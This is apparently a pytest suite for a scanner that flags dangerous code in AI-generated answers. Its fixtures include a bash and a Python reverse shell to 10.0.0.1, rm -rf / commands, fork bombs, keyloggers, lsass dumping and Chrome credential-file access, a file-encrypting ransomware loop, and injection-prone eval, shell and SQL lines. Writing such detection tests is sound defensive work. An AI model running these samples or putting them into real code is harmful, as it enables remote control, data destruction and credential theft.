"""Static checks of generated code: true positives in several languages, and clean code without findings."""

from __future__ import annotations

import pytest

from tianping.safety.code_checks import extract_code_blocks, scan


def fenced(lang: str, code: str) -> str:
    return f"Here is the code:\n\n```{lang}\n{code}\n```\n"


@pytest.mark.parametrize(
    ("lang", "code", "rule"),
    [
        ("bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
        ("bash", "rm -rf / --no-preserve-root", "destructive-command"),
        ("bash", "sudo rm -rf /", "destructive-command"),
        ("bash", ":(){ :|:& };:", "fork-bomb"),
        ("python", "import os\nwhile True: os.fork()", "fork-bomb"),
        (
            "python",
            "from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()",
            "keylogger",
        ),
        ("python", "from pynput import keyboard\nlistener = keyboard.Listener(on_press=on_press)", "keylogger"),
        ("c", "HHOOK h = SetWindowsHookEx(WH_KEYBOARD_LL, proc, inst, 0);", "keylogger"),
        ("python", "path = os.path.join(appdata, 'Google/Chrome/User Data/Default/Login Data')", "credential-theft"),
        ("powershell", "procdump.exe -ma lsass.exe lsass.dmp", "credential-theft"),
        ("python", "result = eval(input('expr: '))", "eval-of-input"),
        ("javascript", "app.get('/calc', (req, res) => res.send(String(eval(req.query.expr))));", "eval-of-input"),
        ("php", "<?php eval($_GET['code']); ?>", "eval-of-input"),
        ("python", 'os.system(f"ping -c 1 {host}")', "shell-from-input"),
        ("python", "subprocess.run('convert ' + filename + ' out.png', shell=True)", "shell-from-input"),
        ("javascript", "child_process.exec(`ls ${req.query.dir}`)", "shell-from-input"),
        ("python", 'cur.execute("SELECT * FROM users WHERE name = \'" + name + "\'")', "sql-concatenation"),
        ("python", 'cur.execute(f"SELECT * FROM users WHERE id = {user_id}")', "sql-concatenation"),
        ("java", 'String q = "SELECT * FROM accounts WHERE id = " + request.getParameter("id");', "sql-concatenation"),
        ("python", "requests.get(url, verify=False)", "tls-verification-disabled"),
        ("go", "tls.Config{InsecureSkipVerify: true}", "tls-verification-disabled"),
        ("javascript", "const agent = new https.Agent({ rejectUnauthorized: false });", "tls-verification-disabled"),
        ("python", "AWS_KEY = 'AKIAIOSFODNN7EXAMPLQ'", "hard-coded-secret"),
        ("python", 'db_password = "s3cr3t-Pa55w0rd!"', "hard-coded-secret"),
    ],
)
def test_true_positives(lang: str, code: str, rule: str) -> None:
    findings = scan(fenced(lang, code))
    assert rule in {f.rule for f in findings}, findings


def test_ransomware_pattern_needs_all_ingredients() -> None:
    code = """import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, _, files in os.walk('/home'):
    for name in files:
        p = os.path.join(root, name)
        data = open(p, 'rb').read()
        open(p + '.locked', 'wb').write(f.encrypt(data))
        os.remove(p)
key = None
"""
    findings = scan(fenced("python", code))
    hit = [f for f in findings if f.rule == "mass-encryption"]
    assert hit and hit[0].severity == "high" and hit[0].language == "python"
    # encrypting one file the user names is ordinary code
    single = "from cryptography.fernet import Fernet\nf = Fernet(key)\ntoken = f.encrypt(b'my notes')\n"
    assert not [f for f in scan(fenced("python", single)) if f.rule == "mass-encryption"]


def test_python_reverse_shell_block_rule() -> None:
    code = (
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])"
    )
    findings = scan(fenced("python", code))
    assert any(f.rule == "reverse-shell" and f.severity == "high" for f in findings)


def test_line_numbers_point_into_the_answer() -> None:
    text = "Intro line\n\n```python\nx = 1\nresult = eval(input())\n```\n"
    [finding] = scan(text)
    assert finding.line == 5
    assert finding.language == "python"
    assert "eval" in finding.snippet


@pytest.mark.parametrize(
    ("lang", "code"),
    [
        ("python", "def add(a, b):\n    return a + b\n\nprint(add(2, 3))"),
        ("python", "cur.execute('SELECT * FROM users WHERE id = %s', (user_id,))"),
        ("python", "subprocess.run(['ping', '-c', '1', host], check=True)"),
        ("python", "api_key = os.environ['API_KEY']\npassword = 'your_password_here'"),
        ("python", "import ast\nvalue = ast.literal_eval(text)"),
        ("python", "requests.get(url, timeout=10)"),
        ("bash", "rm -rf ./build\nmkdir -p build && cd build && cmake .."),
        ("javascript", "const total = items.reduce((a, b) => a + b.price, 0);\nconsole.log(total);"),
        ("go", 'package main\n\nimport "fmt"\n\nfunc main() { fmt.Println("hi") }'),
        ("sql", "SELECT name, COUNT(*) FROM orders GROUP BY name;"),
        ("c", '#include <stdio.h>\nint main(void) { printf("hello\\n"); return 0; }'),
    ],
)
def test_clean_code_has_no_findings(lang: str, code: str) -> None:
    assert scan(fenced(lang, code)) == []


def test_no_code_no_findings() -> None:
    assert scan("The French Revolution began in 1789 and ended the monarchy.") == []


def test_block_extraction_languages_and_unclosed_fence() -> None:
    text = "A\n```py\nprint(1)\n```\nB\n~~~\n#include <stdio.h>\n~~~\nC\n```bash\necho truncated"
    blocks = extract_code_blocks(text)
    assert [b.language for b in blocks] == ["python", "cpp", "bash"]
    assert blocks[0].first_line == 3
    assert blocks[2].code.strip() == "echo truncated"


def test_bare_code_without_fences_is_scanned() -> None:
    text = "#!/bin/bash\nrm -rf ~\n"
    assert any(f.rule == "destructive-command" for f in scan(text))
